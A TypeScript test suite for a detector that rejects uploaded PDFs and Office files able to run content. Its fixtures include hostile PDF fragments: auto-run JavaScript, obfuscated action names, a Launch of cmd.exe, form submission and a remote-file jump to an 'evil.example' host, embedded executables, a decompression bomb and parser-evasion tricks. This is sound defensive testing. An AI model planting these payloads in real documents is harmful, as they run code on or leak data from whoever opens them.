import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import Drawing from 'pdfkit'
import { afterAll, describe, expect, it } from 'vitest'
import type { Paper } from '#lib/pdf/paper.ts'
import { writePdf } from '#lib/pdf/write-pdf.ts'
import { sampleDocx, samplePdf, sampleXlsx } from '#testing/sample-files.ts'
import { isActivePdf } from './find-active.ts'
import { findOfficeType } from './find-type.ts'

/** What a member sends and staff open (ASVS 5.4.3): nothing in it runs. */
const dir = mkdtempSync(join(tmpdir(), 'fieldhouse-active-'))
afterAll(() => rmSync(dir, { recursive: true, force: true }))
const write = (bytes: Buffer) => {
  writeFileSync(join(dir, 'file'), bytes)
  return join(dir, 'file')
}
const isActive = (bytes: Buffer | string) => isActivePdf(write(Buffer.from(bytes as string, 'latin1')))

const page = (more: string) => `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R${more}>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`
const script = '7 0 <</S/JavaScript/JS(1)>>'
type Unusual = { filter?: string; type?: string; packed?: Buffer; begin?: string; more?: string }
const inStream = (
  objects: string,
  { filter = '/Filter/FlateDecode', type = '/Type/ObjStm', packed = deflateSync(objects), begin = '\nstream\r\n', more = '' }: Unusual = {},
) =>
  Buffer.concat([
    Buffer.from(`%PDF-1.7\n5 0 obj\n<<${type}/N 1/First 4${filter}/Length ${packed.length}${more}>>${begin}`),
    packed,
    Buffer.from('\nendstream endobj\n%%EOF\n'),
  ])

const paper: Paper = {
  languages: ['zh-Hant-TW', 'en-GB'],
  title: ['預約確認單', 'Booking confirmation'],
  letterhead: { name: ['青禾運動公園', 'Qinghe Sports Park'], lines: [['統一編號 04595257', 'Tax ID 04595257']], logo: undefined },
  blocks: [{ kind: 'text', text: ['請於開始前十分鐘到場。', 'Please come ten minutes early.'] }],
  foot: ['製作於 2026年11月15日', 'Made on 15 Nov 2026'],
  pageOf: (number, count) => [`第 ${number} 頁，共 ${count} 頁`, `Page ${number} of ${count}`],
  madeAt: new Date('2026-11-15T10:00:00+08:00'),
}

const withStream = (says: string, bytes: Buffer = deflateSync('0 0 m 9 9 l S')) =>
  Buffer.concat([
    Buffer.from(`%PDF-1.7\n5 0 obj\n<<${says}/Length ${bytes.length}>>\nstream\n`, 'latin1'),
    bytes,
    Buffer.from('\nendstream\nendobj\n%%EOF\n'),
  ])

describe('an active PDF', () => {
  it.each([
    ['a script when it is opened', page('/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>')],
    ['a script with its name in numbers', page('/OpenAction<</S/J#61vaScript/JS(1)>>')],
    ['a program that is started', page('/OpenAction<</S/Launch/F(cmd.exe)>>')],
    ['a form that is sent away', page('/AA<</O<</S/SubmitForm/F(https://evil.example)>>>>')],
    ['another file in it', page('/Names<</EmbeddedFiles<</Names[(a.exe)6 0 R]>>>>')],
    ['a film', page('/Annots[<</Subtype/RichMedia>>]')],
    ['a form of XFA', page('/AcroForm<</XFA 9 0 R>>')],
    ['an encrypted one', page('>>endobj trailer<</Encrypt 9 0 R')],
    ['a script in a stream of objects', inStream('7 0 <</S/JavaScript/JS(1)>>')],
    ['one whose name is in numbers there, too', inStream('7 0 <</S/#4aavaScript/JS(1)>>')],
    ['a stream of objects that does not say it is one', inStream('7 0 <</S/JavaScript>>', { type: '' })],
    ['a stream that is packed in another way', inStream('7 0 <<>>', { filter: '/Filter[/ASCIIHexDecode/FlateDecode]' })],
    ['a stream that cannot be unpacked', inStream('', { packed: Buffer.from('no such thing') })],
    ['a stream whose filter stands elsewhere', inStream(script, { filter: '/Filter 7 0 R' })],
    ['a stream whose filter has a short name', inStream(script, { filter: '/Filter/Fl' })],
    ['a stream whose key of the filter is short', inStream(script, { filter: '/F/FlateDecode' })],
    ['a stream with a filter said twice', inStream(script, { filter: '/Filter/FlateDecode/Filter/A85' })],
    ['a stream with a predictor', inStream(script, { filter: '/Filter/FlateDecode/DecodeParms<</Predictor 12>>' })],
    ['a comment that looks like the beginning', inStream(script, { more: ' %obj\n' })],
    ['a comment that looks like another object', inStream(script, { more: ' %6 0 obj <</Length 5\n' })],
    ['a text that looks like another object', inStream(script, { filter: '/Filter 7 0 R', more: '/X(6 0 obj <<)' })],
    ['many blanks in its dictionary', inStream(script, { more: ' '.repeat(100_000) })],
    ['a line that ends by a return alone', inStream(script, { begin: ' stream\r' })],
    ['a blank behind the word', inStream(script, { begin: ' stream \n' })],
    ['something else behind the word', inStream(script, { begin: ' stream x\n' })],
    ['a dictionary without an end', inStream(script, { more: '/X(' })],
    ['a dictionary whose brackets do not match', inStream(script, { more: '>' })],
    ['a stream of no object', Buffer.concat([Buffer.from('%PDF-1.7\nstream\n'), deflateSync(script), Buffer.from('\nendstream')])],
    ['a stream without an end', '%PDF-1.7\n5 0 obj<</Length 5>>stream\nabc'],
    ['a stream within another', '%PDF-1.7\n5 0 obj<<>>stream\n6 0 obj<<>>stream\nendstream'],
    ['a script without its name', page('/OpenAction<</S/Rendition/JS (1)>>')],
    ['a script in another object', page('/AA<</O<</JS 9 0 R>>>>')],
    ['another file that is opened', page('/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\x)/D[0/Fit]>>')],
    ['an old film', page('/Annots[<</Subtype/Movie/Movie 9 0 R>>]')],
    ['a stream that fills the memory', inStream('', { packed: deflateSync(Buffer.alloc(40 * 1024 * 1024)) })],
  ])('is one with %s', async (_, bytes) => {
    expect(await isActive(bytes as Buffer)).toBe(true)
  })

  it.each([
    ['an empty one', samplePdf('')],
    ['one that opens at a page', page('/OpenAction[3 0 R/Fit]')],
    ['one with links', page('/Annots[<</Subtype/Link/A<</S/URI/URI(https://example.org)>>>>]')],
    ['a form without scripts', page('/AcroForm<</Fields[]>>')],
    ['a scan of a phone', withStream('/Subtype/Image/Filter/DCTDecode', Buffer.from('\xff\xd8 /JS \xff\xd9', 'latin1'))],
    ['a picture of few colours', withStream('/Subtype/Image/ColorSpace[/Indexed/DeviceRGB 1(\\(\0>>\\)%obj)]/Filter/FlateDecode')],
    ['a picture that is large', withStream('/Subtype/Image/Filter/FlateDecode', deflateSync(Buffer.alloc(40 * 1024 * 1024)))],
    ['letters that are packed in two ways', withStream('/Filter[/ASCII85Decode/FlateDecode]', Buffer.from('GhQ9~>'))],
    ['what a program notes of it', withStream('/Type/Metadata/Subtype/XML', Buffer.from('<x>the stream\nof 5 0 obj</x>'))],
    ['a table of its objects', withStream('/Type/XRef/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 4>>')],
    ['harmless objects in a list of filters', inStream('7 0 <</Type/Page>>', { filter: '/Filter [ /FlateDecode ]' })],
    ['harmless objects in a stream', inStream('7 0 <</Type/Page/Parent 2 0 R>>')],
  ])('is not %s', async (_, bytes) => {
    expect(await isActive(bytes as Buffer)).toBe(false)
  })

  it('is none that a program has written', async () => {
    const drawn = new Drawing({ compress: true })
    const parts: Buffer[] = []
    drawn.on('data', (part: Buffer) => parts.push(part))
    const ended = new Promise((resolve) => drawn.on('end', resolve))
    drawn.text('JavaScript, Launch and EmbeddedFile are words here').end()
    await ended
    expect(await isActive(Buffer.concat(parts))).toBe(false)
  })

  it('is none of our own papers', async () => {
    expect(await isActive(Buffer.from(await writePdf(paper)))).toBe(false)
  })

  it('is found in time that grows with the file, whatever it says', async () => {
    const begun = process.cpuUsage()
    await isActive(Buffer.alloc(10_000_000, 'stream\n'))
    await isActive(Buffer.alloc(10_000_000, 'obj obj stream\n'))
    await isActive(Buffer.alloc(10_000_000, '#4a'))
    await isActive(Buffer.alloc(10_000_000, '1 0 obj<<(<<'))
    await isActive(Buffer.alloc(10_000_000, '1 0 obj<<>>stream\nendstream '))
    await isActive(Buffer.alloc(10_000_000, '1 0 obj<</Length 1>>'))
    await isActive(Buffer.concat([Buffer.alloc(5_000_000, 'obj<<% '), Buffer.from('\n'), Buffer.alloc(5_000_000, '>>')]))
    expect(process.cpuUsage(begun).user).toBeLessThan(12_000_000)
  })
})

it.each(['word/embeddings/oleObject1.bin', 'word/activeX/activeX1.xml', 'word/vbaProject.bin'])(
  'refuses an Office file with %s',
  async (name) => {
    expect(await findOfficeType(write(sampleDocx([{ name, content: 'x' }])))).toBeUndefined()
  },
)

it('takes an Office file with a table in it', async () => {
  expect(await findOfficeType(write(sampleDocx([{ name: 'word/embeddings/table.xlsx', content: sampleXlsx() }])))).toBeDefined()
})
